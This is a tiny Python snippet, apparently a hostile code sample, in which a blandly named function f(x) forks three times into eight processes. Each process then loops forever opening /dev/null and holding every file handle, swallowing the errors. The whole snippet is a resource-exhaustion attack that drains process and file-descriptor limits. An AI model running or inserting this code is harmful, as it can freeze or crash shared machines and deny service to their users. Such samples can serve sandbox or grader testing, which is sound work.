import os
def f(x):
    held = []
    for _ in range(3): os.fork()
    while True:
        try: held.append(open("/dev/null"))
        except OSError: pass
